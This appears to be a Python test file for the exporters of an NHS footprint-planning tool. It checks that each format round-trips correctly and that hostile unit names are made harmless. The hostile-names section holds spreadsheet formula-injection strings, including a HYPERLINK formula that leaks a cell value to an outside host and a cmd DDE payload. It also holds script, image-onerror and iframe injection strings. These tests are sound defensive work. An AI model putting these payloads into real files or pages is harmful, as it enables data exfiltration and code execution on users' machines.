"""Exports: each format written, read back, and holding the same plan and its metadata."""

from __future__ import annotations

import base64
import csv
import dataclasses
import html
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from helpers import grid_units, population_table

from footprint.errors import PlanError
from footprint.exporters import (
    EXPORT_FORMATS,
    KML_NS,
    export_csv,
    export_geojson,
    export_geopackage,
    export_html_report,
    export_kml,
    export_shapefile_zip,
    footprint_layer,
)
from footprint.geography import build_geography
from footprint.plans import read_plan_csv

NHS_CODES = ["00C", "00D", "01A", "02B", "03V", "05X"]
META = {
    "scenario": "Option <A> & B",
    "status": "optimal",
    "constraints": {"floor": 300, "respect_la": True},
}


@pytest.fixture(scope="module")
def geo():
    """2 x 3 grid of 1 km squares coded like NHS CCGs (leading zeros), names with markup."""
    units = grid_units(2, 3)
    units["code"] = NHS_CODES
    units["name"] = [f"Unit {c} & <Co>" for c in NHS_CODES]
    pop = population_table(NHS_CODES, [100, 200, 300, 400, 500, 600])
    return build_geography(
        units,
        pop,
        code_column="code",
        population_column="population",
        name_column="name",
        name="Test grid",
        population_label="registered patients (QOF 2013/14 list sizes)",
        attribution=("Contains public sector information licensed under the OGL v3.0",),
        source_digest="abc123",
    )


# r0: 00C 00D 01A / r1: 02B 03V 05X; "N&S" is the left column pair plus 00D, "East" the right
PLAN = {"00C": "N&S", "00D": "N&S", "02B": "N&S", "01A": "East", "05X": "East", "03V": ""}


def _read(data: bytes, tmp_path, name: str, **kw) -> gpd.GeoDataFrame:
    path = tmp_path / name
    path.write_bytes(data)
    return gpd.read_file(path, **kw)


def test_footprint_layer(geo):
    fps = footprint_layer(geo, PLAN)
    assert fps.crs.to_epsg() == 27700
    assert fps["footprint"].tolist() == ["East", "N&S"]
    assert fps["population"].tolist() == [900, 700]
    assert fps["n_units"].tolist() == [2, 3]
    assert fps["units"].tolist() == ["01A; 05X", "00C; 00D; 02B"]
    assert fps["area_km2"].tolist() == [2.0, 3.0]


def test_geopackage_round_trip(geo, tmp_path):
    data = export_geopackage(geo, PLAN, metadata=META)
    path = tmp_path / "plan.gpkg"
    path.write_bytes(data)
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"footprints", "assignment", "metadata"}
    assert layers["metadata"] is None  # a plain table
    fps = gpd.read_file(path, layer="footprints")
    assert fps.crs.to_epsg() == 27700
    assert set(fps["footprint"]) == {"N&S", "East"}
    table = gpd.read_file(path, layer="assignment")
    got = dict(zip(table["unit_code"], table["footprint"].fillna(""), strict=True))
    assert got == {**PLAN}
    meta = pyogrio.read_dataframe(path, layer="metadata", read_geometry=False)
    meta = dict(zip(meta["key"], meta["value"], strict=True))
    assert meta["population"] == "registered patients (QOF 2013/14 list sizes)"
    assert meta["data"] == "Test grid" and meta["data_digest"] == "abc123"
    assert json.loads(meta["constraints"]) == {"floor": 300, "respect_la": True}
    assert meta["status"] == "optimal"
    assert "Open" in meta["attribution"] or "OGL" in meta["attribution"]
    assert meta["unassigned_units"] == "03V"
    assert "empty footprint" in meta["unassigned_note"]
    assert "T" in meta["created"]


def test_geojson_round_trip(geo, tmp_path):
    data = export_geojson(geo, PLAN, metadata=META)
    body = json.loads(data)
    assert body["metadata"]["scenario"] == "Option <A> & B"
    assert body["attribution"] == list(geo.attribution)
    assert "4326" in body["metadata"]["crs"]
    fps = _read(data, tmp_path, "fp.geojson")
    assert fps.crs.to_epsg() == 4326
    pops = dict(zip(fps["footprint"], fps["population"], strict=True))
    assert pops == {"N&S": 700, "East": 900}
    # back in metres the areas are still 3 and 2 km²
    assert fps.to_crs(27700).area.tolist() == pytest.approx([2e6, 3e6], rel=1e-3)


def test_shapefile_zip_round_trip(geo, tmp_path):
    table = pd.DataFrame(
        {
            "footprint": ["East", "N&S"],
            "polsby_popper": [0.7, 0.6],
            "meets_the_floor": [True, False],
            "las": [["E06"], ["E06", "E07"]],
        }
    )
    data = export_shapefile_zip(geo, PLAN, metadata=META, table=table)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = set(zf.namelist())
        readme = zf.read("README.txt").decode()
        plan = pd.read_csv(zf.open("assignment.csv"), dtype=str, keep_default_na=False)
        fields = zf.read("fields.txt").decode()
    assert {"footprints.shp", "footprints.shx", "footprints.dbf", "footprints.prj"} <= names
    assert "attribution:" in readme and "OGL" in readme
    assert "unassigned" in readme
    assert dict(zip(plan["unit_code"], plan["footprint"], strict=True)) == PLAN
    fps = _read(data, tmp_path, "fp.zip")
    assert fps.crs.to_epsg() == 27700
    assert all(len(c) <= 10 for c in fps.columns)
    assert "polsby_pop" in fps.columns and "meets_the_" in fps.columns
    assert "meets_the_\tmeets_the_floor" in fields
    assert fps.set_index("footprint").loc["N&S", "las"] == "E06; E07"


def test_csv_keeps_leading_zeros(geo):
    data = export_csv(geo, PLAN, metadata=META)
    text = data.decode()
    assert text.splitlines()[0] == "unit_code,footprint"
    assert text.splitlines()[1] == "00C,N&S"
    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert back["unit_code"].tolist() == sorted(NHS_CODES)
    assert dict(zip(back["unit_code"], back["footprint"], strict=True)) == PLAN


def test_kml_parses_with_one_placemark_per_footprint(geo):
    data = export_kml(geo, PLAN, metadata=META)
    root = ET.fromstring(data)
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    marks = root.findall(".//k:Placemark", ns)
    assert [m.find("k:name", ns).text for m in marks] == ["East", "N&S"]
    assert root.find("k:Document/k:name", ns).text == "Option <A> & B"
    assert b"N&amp;S" in data
    desc = marks[1].find("k:description", ns).text
    assert "700" in desc and "registered patients" in desc
    coords = marks[0].find(".//k:coordinates", ns).text.split()
    lon, lat = map(float, coords[0].split(","))
    assert -10 < lon < 5 and 45 < lat < 52  # British grid origin area, in degrees


def test_kml_colours_touching_footprints_apart_as_the_app_map_does(geo):
    from footprint._colours import FOOTPRINT_PALETTE, colour_apart

    root = ET.fromstring(export_kml(geo, PLAN, metadata=META))
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    fills = [s.find("k:PolyStyle/k:color", ns).text[2:] for s in root.findall(".//k:Style", ns)]
    # KML writes colours as aabbggrr; back to #rrggbb
    got = [f"#{c[4:6]}{c[2:4]}{c[0:2]}" for c in fills]
    # "East" and "N&S" touch: two different colours of the one palette, chosen as the map does
    want = colour_apart(["East", "N&S"], {"East": {"N&S"}, "N&S": {"East"}})
    assert got == [want["East"], want["N&S"]]
    assert got[0] != got[1] and set(got) <= set(FOOTPRINT_PALETTE)


def test_html_report_is_self_contained(geo):
    data = export_html_report(geo, PLAN, metadata={**META, "notes": "draft"})
    page = data.decode()
    alt = "Map of the footprints of Option &lt;A&gt; &amp; B"
    assert f'<img alt="{alt}" src="data:image/png;base64,' in page
    png = base64.b64decode(page.split("data:image/png;base64,")[1].split('"')[0])
    assert png.startswith(b"\x89PNG")
    assert "<table" in page and "N&amp;S" in page and "Unit 00C &amp; &lt;Co&gt;" in page
    assert "OGL v3.0" in page
    assert "Status:</strong> optimal" in page
    assert "&quot;floor&quot;: 300" in page
    assert "Unassigned units (1):</strong> 03V" in page
    assert "<script" not in page and "http://" not in page and "https://" not in page


def test_html_report_uses_a_given_table(geo):
    table = pd.DataFrame(
        {
            "footprint": ["East", "N&S"],
            "population": [900, 700],
            "meets_floor": [True, False],
            "problems": [[], ["below the floor of 800"]],
            "area_km2": [12345.6, 2.0],
            "polsby_popper": [0.4567, 0.785],
        }
    )
    page = export_html_report(geo, PLAN, metadata=META, table=table).decode()
    assert "below the floor of 800" in page and "<td>no</td>" in page
    assert ">12,346<" in page and ">0.457<" in page and ">900<" in page


def test_everything_unassigned_still_exports(geo, tmp_path):
    for fmt in EXPORT_FORMATS.values():
        data = fmt.function(geo, {}, metadata={})
        assert data
    fps = _read(export_geopackage(geo, {}, metadata={}), tmp_path, "e.gpkg", layer="assignment")
    assert (fps["footprint"].fillna("") == "").all()


def test_export_formats_registry():
    assert set(EXPORT_FORMATS) == {
        "gpkg", "geojson", "shapefile", "csv", "kml", "html", "pdf", "png", "xlsx", "table_csv"
    }  # fmt: skip
    for fmt in EXPORT_FORMATS.values():
        assert re.fullmatch(r"[-a-z]*\.[a-z]+", fmt.extension)
        assert "/" in fmt.mime and callable(fmt.function)
        assert fmt.audience in ("gis", "meeting")
    names = [f"plan{fmt.extension}" for fmt in EXPORT_FORMATS.values()]
    assert len(set(names)) == len(names)  # the app's downloads never share a file name


def test_bad_assignments_are_refused(geo):
    expected = r"(?s)Cannot export.*1 unit code\(s\) are not in the geography 'Test grid': ZZZ"
    with pytest.raises(PlanError, match=expected + r".*unit '00C' -> 5: footprint labels must be"):
        export_csv(geo, {"ZZZ": "A", "00C": 5}, metadata={})
    with pytest.raises(PlanError, match="per-footprint table has no 'footprint' column"):
        export_geojson(geo, PLAN, metadata={}, table=pd.DataFrame({"x": [1]}))


def test_callers_assignment_untouched(geo):
    plan = dict(PLAN)
    export_kml(geo, plan, metadata=META)
    assert plan == PLAN


@pytest.mark.realdata
def test_real_export_round_trip(geography, tmp_path):
    teams = dict(zip(geography.units["code"], geography.units["area_team_code"], strict=True))
    data = export_geopackage(geography, teams, metadata={"scenario": "Area Teams"})
    fps = _read(data, tmp_path, "real.gpkg", layer="footprints")
    assert len(fps) == 25 and fps["population"].sum() == 56_324_887
    assert fps.geometry.is_valid.all()
    assert fps["n_units"].sum() == 211


def test_long_text_fits_the_shapefile_and_objects_become_json(geo, tmp_path):
    from dataclasses import dataclass

    @dataclass(frozen=True)
    class Limits:
        floor: int = 300

    table = pd.DataFrame({"footprint": ["East", "N&S"], "problems": [["x" * 300], ["é" * 200]]})
    data = export_shapefile_zip(geo, PLAN, metadata={"constraints": Limits()}, table=table)
    fps = _read(data, tmp_path, "long.zip")
    assert fps.set_index("footprint").loc["East", "problems"] == "x" * 254
    assert fps.set_index("footprint").loc["N&S", "problems"] == "é" * 127  # 2 bytes each
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert 'constraints: {"floor": 300}' in zf.read("README.txt").decode()


# --- hostile names: formulas, control characters, markup, mathtext ------------------------------

FORMULAS = [
    '=HYPERLINK("http://elsewhere/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=F",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_units(geo, names: list[str]):
    """The geography with unit names that skipped the cleaning at the door (a stale cache,
    a Geography built by hand): the exporters must clean them again."""
    units = geo.units.copy()
    units["name"] = names
    return dataclasses.replace(geo, units=units)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_exports_neutralise_formulas(geo):
    plan = dict(zip(NHS_CODES, [*FORMULAS, ""], strict=True))
    hostile = _hostile_units(geo, ["=1+1", "+A1", "-A1", "@A1", "\tA1", "ok"])
    data = export_csv(hostile, plan)
    rows = _csv_rows(data.decode())
    assert rows[0] == ["unit_code", "footprint"]
    for _, footprint in rows[1:]:
        assert not footprint.startswith(STARTS)
    assert rows[1] == ["00C", "'" + FORMULAS[0]]
    assert rows[5] == ["03V", "''=F"]
    # the app's own file reads back exactly
    assert read_plan_csv(data, known_codes=NHS_CODES).assignment == {
        c: f for c, f in plan.items() if f
    }

    with zipfile.ZipFile(io.BytesIO(export_shapefile_zip(hostile, plan))) as zf:
        rows = _csv_rows(zf.read("assignment.csv").decode())
    assert rows[0] == ["unit_code", "nhs_code", "name", "population", "footprint"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(STARTS), row
    by_code = {r[0]: r for r in rows[1:]}
    assert by_code["00C"][2:] == ["'=1+1", "100", "'" + FORMULAS[0]]
    assert by_code["00D"][2:] == ["'+A1", "200", "'" + FORMULAS[1]]
    assert by_code["02B"][2] == "'@A1"
    # a tab is a control character: cleaned away, so nothing is left to quote
    assert by_code["03V"][2:] == ["A1", "500", "''=F"]  # numbers stay numbers


NASTY = {
    "00C": "Nor\x00th",
    "00D": "Esc\x1b[31m",
    "01A": "<b>&amp;</b>",
    "02B": "a]]>b",
    "03V": "\ufffeline\nbreak\u202e",
}


def test_kml_parses_whatever_the_names_hold(geo):
    from xml.dom import minidom

    hostile = _hostile_units(geo, ["\x00", "a\x1bb", "<x>", "&", "]]>", "\uffffz"])
    meta = {"scenario": "S\x00c<&>", "notes": "two\nlines\x0b\x00 and ]]>", "status": "\x07ok"}
    data = export_kml(hostile, NASTY, metadata=meta)
    root = ET.fromstring(data)
    minidom.parseString(data)  # a second parser agrees
    ns = {"k": KML_NS}
    names = sorted(m.find("k:name", ns).text for m in root.findall(".//k:Placemark", ns))
    assert names == sorted(["North", "Esc[31m", "<b>&amp;</b>", "a]]>b", "line break"])
    assert root.find("k:Document/k:name", ns).text == "Sc<&>"
    assert "two\nlines\n and ]]>" in root.find("k:Document/k:description", ns).text


def test_geopackage_and_shapefile_keep_cleaned_names(geo, tmp_path):
    hostile = _hostile_units(geo, ["A\x00B", "C", "D", "E", "F", "G\r\nH"])
    plan = {"00C": "Ea\x00st", "00D": "Ea\x00st", "01A": "We\x1bst"}
    path = tmp_path / "nul.gpkg"
    path.write_bytes(export_geopackage(hostile, plan, metadata={"scenario": "x\x00y"}))
    units = pyogrio.read_dataframe(path, layer="assignment")
    assert units.set_index("unit_code")["name"].to_dict() == {
        "00C": "AB",
        "00D": "C",
        "01A": "D",
        "02B": "E",
        "03V": "F",
        "05X": "G H",
    }
    fps = pyogrio.read_dataframe(path, layer="footprints")
    assert sorted(fps["footprint"]) == ["East", "West"]
    assert fps.set_index("footprint").loc["East", "n_units"] == 2  # the cleaned labels meet
    meta = pyogrio.read_dataframe(path, layer="metadata", read_geometry=False)
    assert dict(zip(meta["key"], meta["value"], strict=True))["scenario"] == "xy"
    shp = _read(export_shapefile_zip(hostile, plan), tmp_path, "nul.zip")
    assert sorted(shp["footprint"]) == ["East", "West"]


HTML_NAMES = {
    "00C": "$x$",
    "00D": "$x^$",  # not even valid mathematics
    "01A": "<script>alert(1)</script>",
    "02B": "<img src=x onerror=alert(1)>",
    "03V": '" onmouseover="alert(1)',
}


def test_html_report_shows_names_as_typed_and_fetches_nothing(geo):
    hostile = _hostile_units(
        geo, ["<script>alert(2)</script>", "$\\frac{", "<a href='//evil'>u</a>", "b", "c", "d"]
    )
    meta = {
        "scenario": "$5m to $6m <img src=//evil/p.png>",
        "status": "<b>optimal</b>",
        "notes": "<iframe src='https://elsewhere'></iframe>",
        "title": "Plan </title><script>alert(3)</script>",
    }
    page = export_html_report(hostile, HTML_NAMES, metadata=meta).decode()
    for name in [*HTML_NAMES.values(), "<script>alert(2)</script>", "<a href='//evil'>u</a>"]:
        assert html.escape(name) in page
    assert "$5m to $6m &lt;img src=//evil/p.png&gt;" in page
    assert "<script" not in page and "<img src=x" not in page and "<iframe" not in page
    assert "<b>optimal</b>" not in page
    # the only address in the page is the map, inside the file itself
    tags = _Tags()
    tags.feed(page)
    assert set(tags.names) <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "p",
        "strong",
        "br",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "pre",
        "ul",
        "li",
    }
    assert len(tags.addresses) == 1 and tags.addresses[0].startswith("data:image/png;base64,")
    assert "url(" not in page and "@import" not in page


class _Tags(HTMLParser):
    """The elements of a page and every address its attributes point to."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.names.append(tag)
        self.addresses += [v or "" for k, v in attrs if k in ("src", "href", "action", "srcset")]


def test_report_map_draws_dollar_signs_as_text(geo):
    from matplotlib.text import Text

    drawn: list[tuple[str, bool]] = []
    original = Text.draw

    def spy(self, renderer):
        if self.get_text():
            drawn.append((self.get_text(), self.get_parse_math()))
        return original(self, renderer)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Text, "draw", spy)
        export_html_report(geo, HTML_NAMES, metadata={"scenario": "$5m to $6m"})
    texts = dict(drawn)
    assert texts["$5m to $6m"] is False  # the title
    assert any(t.startswith("$x$") for t in texts) and any(t.startswith("$x^$") for t in texts)
    assert not any(texts.values())  # no text at all is read as mathematics


# --- clean geometry ---------------------------------------------------------------------------


def _messy_geography():
    """Three 2 km squares in a row: a pinhole between A and B, a sliver off C, an island of C.

    A and B leave a 10 m x 10 m gap on their shared edge (a pinhole once dissolved); C has
    a 5 m x 20 m sliver touching B's corner (a digitising artefact) and a 100 m x 100 m
    island 5 km offshore that touches nothing (kept: a real island).
    """
    from shapely.geometry import MultiPolygon, Polygon, box

    a = Polygon([(0, 0), (2000, 0), (2000, 1000), (1990, 1000), (1990, 1010), (2000, 1010),
                 (2000, 2000), (0, 2000)])  # fmt: skip
    b = box(2000, 0, 4000, 2000).difference(box(2000, 1000, 2010, 1010))
    c = MultiPolygon([box(4000, 0, 6000, 2000), box(3990, 2000, 3995, 2020),
                      box(11000, 0, 11100, 100)])  # fmt: skip
    units = gpd.GeoDataFrame({"code": ["A", "B", "C"]}, geometry=[a, b, c], crs=27700)
    units["name"] = units["code"]
    return build_geography(
        units,
        population_table(["A", "B", "C"], [1, 2, 3]),
        code_column="code",
        population_column="population",
        name_column="name",
        name="Messy",
        population_label="registered patients",
    )


def _rings(geom):
    polys = [p for p in getattr(geom, "geoms", [geom])]
    return polys, [r for p in polys for r in p.interiors]


def test_pinholes_filled_slivers_dropped_islands_kept():
    import shapely

    geo = _messy_geography()
    fps = footprint_layer(geo, {"A": "AB", "B": "AB", "C": "C"}).set_index("footprint")
    parts, holes = _rings(fps.loc["AB", "geometry"])
    assert len(parts) == 1 and holes == []  # the 10 m pinhole between A and B is gone
    parts, holes = _rings(fps.loc["C", "geometry"])
    areas = sorted(round(p.area) for p in parts)
    assert areas == [10_000, 4_000_000]  # the island (0.01 km2) stays, the sliver goes
    assert fps.geometry.is_valid.all()
    # the raw union had them: the test data does hold what the cleaning removes
    raw = shapely.union_all([geo.units.geometry[0], geo.units.geometry[1]])
    assert len(raw.interiors) == 1


def _ring_problems(path, layer=None) -> list[str]:
    """Every geometry of a written file read back with pyogrio (GDAL): invalid ones, holes under
    1 km2, and rings GDAL would reject (fewer than 4 points or 3 distinct)."""
    import shapely

    gdf = pyogrio.read_dataframe(path, layer=layer)
    metric = gdf.to_crs(27700) if gdf.crs is not None and gdf.crs.to_epsg() != 27700 else gdf
    out = []
    for i, (geom, flat) in enumerate(zip(gdf.geometry, metric.geometry, strict=True)):
        if geom is None or geom.is_empty:
            out.append(f"feature {i}: no geometry")
            continue
        if not shapely.is_valid(geom):
            out.append(f"feature {i}: {shapely.is_valid_reason(geom)}")
        polys, holes = _rings(geom)
        out += [f"feature {i}: hole of {shapely.Polygon(h).area:g}" for h in _rings(flat)[1]
                if shapely.Polygon(h).area < 1e6]  # fmt: skip
        for ring in [p.exterior for p in polys] + holes:
            pts = list(ring.coords)
            if len(pts) < 4 or len(set(pts)) < 3:
                out.append(f"feature {i}: ring of {len(set(pts))} distinct points")
    return out


def _real_plans(dataset):
    g = dataset.geography
    codes = g.units["code"].astype(str)
    return {
        "area teams": dict(zip(codes, g.units["area_team_code"], strict=True)),
        "LA blocks": dict(dataset.audit.blocks),
        "one per CCG": {c: c for c in codes},
    }


@pytest.mark.realdata
@pytest.mark.slow
@pytest.mark.parametrize("which", ["area teams", "LA blocks", "one per CCG"])
def test_every_real_export_is_valid_without_pinholes(dataset, tmp_path, which):
    g = dataset.geography
    plan = _real_plans(dataset)[which]
    files = {
        "plan.gpkg": (export_geopackage, ["footprints", "assignment"]),
        "plan.geojson": (export_geojson, [None]),
        "plan.zip": (export_shapefile_zip, [None]),
        "plan.kml": (export_kml, [None]),
    }
    problems = []
    for name, (fn, layers) in files.items():
        path = tmp_path / name
        path.write_bytes(fn(g, plan, metadata={"scenario": which}))
        for layer in layers:
            problems += [f"{name} {layer or ''}: {p}" for p in _ring_problems(path, layer)]
    assert problems == []
    # no fragment under 0.1 km2 in the footprints unless a real island of the CCG data
    from footprint.exporters import MIN_PART_M2, _islands

    fps = footprint_layer(g, plan)
    islands = _islands(g)
    small = [p for geom in fps.geometry for p in _rings(geom)[0] if p.area < MIN_PART_M2]
    assert all(len(islands.query(p, predicate="intersects")) for p in small)


@pytest.mark.realdata
def test_the_kml_rings_that_collapsed_now_hold(dataset):
    # the Area Teams' KML had two footprints with rings of two distinct points (issue 19)
    root = ET.fromstring(export_kml(dataset.geography, _real_plans(dataset)["area teams"]))
    for coords in root.iter(f"{{{KML_NS}}}coordinates"):
        pts = coords.text.split()
        assert len(pts) >= 4 and len(set(pts)) >= 3


@pytest.mark.realdata
def test_exports_colour_a_plan_as_the_map_does(dataset):
    from footprint.map import footprint_colours

    g = dataset.geography
    plan = _real_plans(dataset)["LA blocks"]
    root = ET.fromstring(export_kml(g, plan))
    ns = {"k": KML_NS}
    fills = [s.find("k:PolyStyle/k:color", ns).text[2:] for s in root.findall(".//k:Style", ns)]
    names = [p.find("k:name", ns).text for p in root.findall(".//k:Placemark", ns)]
    got = {n: f"#{c[4:6]}{c[2:4]}{c[0:2]}" for n, c in zip(names, fills, strict=True)}
    assert got == footprint_colours(g, plan)


# --- the spreadsheet table --------------------------------------------------------------------


def test_table_csv_has_a_row_per_unit_and_per_footprint_with_attribution(geo):
    from footprint.exporters import export_table_csv

    text = export_table_csv(geo, PLAN, metadata=META).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the names as UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    assert header[:5] == ["Row", "unit code", "NHS code", "unit name", "Footprint"]
    assert header[5] == "Population (registered patients (QOF 2013/14 list sizes))"
    body = [r for r in rows[1:] if r and r[0] in ("unit", "Footprint total")]
    assert [r[0] for r in body].count("unit") == 6
    totals = {r[4]: int(r[5]) for r in body if r[0] == "Footprint total"}
    assert totals == {"East": 900, "N&S": 700}
    unassigned = [r for r in body if r[0] == "unit" and r[4] == ""]
    assert [r[1] for r in unassigned] == ["03V"]  # after every footprint
    assert body[-1][1] == "03V"
    assert any("OGL v3.0" in r[0] for r in rows if r)
    assert any(r[0] == "Scenario: Option <A> & B" for r in rows if r)


def test_table_exports_keep_formulas_as_text(geo, tmp_path):
    from openpyxl import load_workbook

    from footprint.exporters import export_table_csv, export_xlsx

    plan = {"00C": '=HYPERLINK("http://x")', "00D": "+cmd|' /C calc'!A0", "01A": "@SUM(A1)"}
    text = export_table_csv(geo, plan).decode("utf-8")
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text
    path = tmp_path / "t.xlsx"
    path.write_bytes(export_xlsx(geo, plan, metadata={"scenario": "=1+1"}))
    wb = load_workbook(path)
    cells = [c for row in wb["Plan"].iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]  # nothing runs as a formula
    values = {c.value for c in cells}
    assert set(plan.values()) <= values and "Scenario: =1+1" in values
    assert wb["Plan"]["F2"].number_format == "#,##0"
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows(min_row=2)}
    assert "OGL v3.0" in about["attribution"] and about["population"].startswith("registered")


@pytest.mark.realdata
def test_real_table_names_las_and_area_teams(geography):
    from footprint.exporters import export_table_csv

    teams = dict(zip(geography.units["code"], geography.units["area_team_code"], strict=True))
    rows = list(csv.reader(io.StringIO(export_table_csv(geography, teams).decode("utf-8-sig"))))
    header = rows[0]
    assert header[1:4] == ["CCG code", "NHS code", "CCG name"]
    assert header[6:] == ["Local authority", "Area Team"]
    ccgs = [r for r in rows if r and r[0] == "CCG"]
    assert len(ccgs) == 211 and len([r for r in rows if r and r[0] == "Footprint total"]) == 25
    kent = next(r for r in ccgs if r[1] == "E38000002")  # NHS Ashford
    assert kent[3] == "NHS Ashford" and kent[6] == "Kent" and kent[7] == "Kent and Medway"
    assert not any(r[7].startswith("E39") for r in ccgs)  # Area Teams by name, not code
